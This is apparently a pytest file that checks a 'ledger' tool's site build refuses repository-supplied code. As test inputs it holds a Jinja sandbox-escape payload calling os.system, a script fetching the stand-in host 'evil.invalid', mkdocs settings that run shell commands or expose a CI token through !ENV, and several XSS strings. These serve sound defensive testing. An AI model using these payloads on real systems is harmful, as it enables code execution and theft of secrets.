"""Issue 22, principle 3: the site runs no code the judged repository brings, unless the
person building opts in on the command line (`ledger site build --repository-code`); even
then the repository's templates render in Jinja's sandbox.

Each attack is the repository's own files: a `site.templates` folder whose template reaches
for Python objects, an `assets/iframe-worker-shim.js` override (served on every page), and
in mkdocs.yml a `hooks:` Python file, `theme.custom_dir`, `extra_javascript`, and `!ENV`
(which would publish a CI token as the site's name). Builds run the real command: one in a
fresh clone of a pushed repository, the rest in-process through `ledger.cli.main.main`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from checks.check_helpers import commit
from conftest import git, run_ledger

from ledger.cli.main import main


def build(root: Path, capsys, *args: str) -> tuple[int, str]:
    capsys.readouterr()
    code = main(["--ledger", str(root), "site", "build", *args])
    return code, capsys.readouterr().err


def set_templates(root: Path, folder: str) -> None:
    path = root / "ledger.yaml"
    text = path.read_text()
    assert "  templates:" in text
    lines = [f"  templates: {folder}" if line.startswith("  templates:") else line for line in text.splitlines()]
    path.write_text("\n".join(lines) + "\n")


def prepend_mkdocs(root: Path, text: str) -> None:
    path = root / "mkdocs.yml"
    path.write_text(text + path.read_text())


ESCAPE = "{{ ''.__class__.__mro__[1].__subclasses__() }}{{ cycler.__init__.__globals__.os.system('touch MARKER') }}\n"


def test_a_pushed_template_folder_is_refused_in_a_fresh_clone(pushed: Path, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    (pushed / "theme" / "assets").mkdir(parents=True)
    (pushed / "theme" / "home.md.j2").write_text(ESCAPE.replace("MARKER", str(marker)))
    (pushed / "theme" / "assets" / "iframe-worker-shim.js").write_text(f"fetch('https://evil.invalid/{marker}')\n")
    set_templates(pushed, "theme")
    commit(pushed, "a nicer home page")
    assert git(pushed, "push", "-q", "--no-verify", "origin", "HEAD:main", check=False).returncode == 0
    url = git(pushed, "remote", "get-url", "origin").stdout.strip()
    git(tmp_path, "clone", "-q", url, "ci")
    ci = tmp_path / "ci"
    result = run_ledger(ci, "site", "build", "--strict")
    assert result.returncode == 2, result.stdout + result.stderr
    assert "site.templates" in result.stderr and "--repository-code" in result.stderr
    assert not (ci / "site").exists() and not marker.exists()

    # Opted in: the template still cannot reach Python; the build stops naming it.
    opted = run_ledger(ci, "site", "build", "--repository-code")
    assert opted.returncode == 2, opted.stdout + opted.stderr
    assert "SecurityError" in opted.stderr and "home.md.j2" in opted.stderr
    assert "internal error" not in opted.stderr
    assert not marker.exists()


def test_an_opted_in_template_that_stays_in_the_sandbox_builds(repo: Path, capsys) -> None:
    (repo / "theme").mkdir()
    (repo / "theme" / "hypotheses.md.j2").write_text("# Our hypotheses\n\nNone listed here.\n")
    set_templates(repo, "theme")
    code, err = build(repo, capsys)
    assert code == 2 and "site.templates" in err
    code, err = build(repo, capsys, "--repository-code")
    assert code == 0, err
    assert "Our hypotheses" in (repo / "site" / "hypotheses" / "index.html").read_text()


@pytest.mark.parametrize(
    "mkdocs, named",
    [
        ("hooks:\n  - evil.py\n", "field hooks"),
        ("theme:\n  name: mkdocs\n  custom_dir: overrides\n", "theme.custom_dir"),
        ("extra_javascript:\n  - evil.js\n", "field extra_javascript"),
        ("site_name: !ENV [GITHUB_TOKEN, ledger]\n", "!ENV"),
        ("INHERIT: ../../base.yml\n", "field INHERIT"),
        ("extra_css:\n  - evil.css\n", "field extra_css"),
        # mkdocs.yml's own settings that run or inject code (hostile round, principle 17).
        ('markdown_extensions:\n  - "os:system":\n      command: "touch MARKER"\n', "field markdown_extensions"),
        ("markdown_extensions:\n  - pymdownx.snippets:\n      base_path: [/]\n", "'pymdownx.snippets'"),
        ("plugins:\n  - search\n  - offline\n  - material/privacy\n", "field plugins"),
        ("copyright: <img src=x onerror=alert(1)>\n", "field copyright"),
        ("site_description: '\"><script>alert(1)</script>'\n", "field site_description"),
        ("extra:\n  analytics: {provider: google, property: G-X}\n", "field extra.analytics"),
        ("extra:\n  homepage: ' JavaScript:alert(1)'\n", "field extra.homepage"),
        ("nav:\n  - Home: index.md\n  - Evil: 'javascript:alert(1)'\n", "field nav[1].Evil"),
    ],
)
def test_mkdocs_code_settings_are_refused_without_the_opt_in(repo: Path, capsys, mkdocs: str, named: str) -> None:
    marker = repo.parent / "ran"
    (repo / "evil.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    text = (repo / "mkdocs.yml").read_text()
    mkdocs = mkdocs.replace("MARKER", str(marker))
    for key in ("hooks:", "theme:", "site_name:", "extra_css:", "markdown_extensions:", "plugins:", "extra:", "nav:"):
        if mkdocs.startswith(key) and key in text:
            # Replace the file's own key (theme/site_name/extra_css already set by ledger init).
            lines = text.splitlines()
            start = next(i for i, line in enumerate(lines) if line.startswith(key))
            end = start + 1
            while end < len(lines) and (lines[end].startswith(" ") or lines[end].startswith("-")):
                end += 1
            text = "\n".join(lines[:start] + lines[end:]) + "\n"
    (repo / "mkdocs.yml").write_text(mkdocs + text)
    before = sorted(p.name for p in repo.iterdir())
    code, err = build(repo, capsys, "--strict")
    assert code == 2, err
    assert named in err and "--repository-code" in err
    assert not marker.exists() and sorted(p.name for p in repo.iterdir()) == before


def test_a_pushed_markdown_extension_runs_nothing_in_a_fresh_clone(pushed: Path, tmp_path: Path) -> None:
    """Python-Markdown imports each `markdown_extensions` name and calls `module:callable` with
    the options: `"os:system": {command: ...}` ran a shell command on every member's and CI's
    `ledger site build`, pushed through the hook and with `--strict`."""
    marker = tmp_path / "ran"
    text = (pushed / "mkdocs.yml").read_text()
    assert "  - md_in_html\n" in text
    evil = f'  - md_in_html\n  - "os:system":\n      command: "touch {marker}"\n'
    (pushed / "mkdocs.yml").write_text(text.replace("  - md_in_html\n", evil))
    commit(pushed, "a Markdown extension")
    assert git(pushed, "push", "-q", "origin", "HEAD:main", check=False).returncode == 0
    git(tmp_path, "clone", "-q", str(tmp_path / "remote.git"), "ci")
    ci = tmp_path / "ci"
    result = run_ledger(ci, "site", "build", "--strict")
    assert result.returncode == 2, result.stdout + result.stderr
    assert "field markdown_extensions" in result.stderr and "'os:system'" in result.stderr
    assert "--repository-code" in result.stderr
    assert not marker.exists() and not (ci / "site").exists()
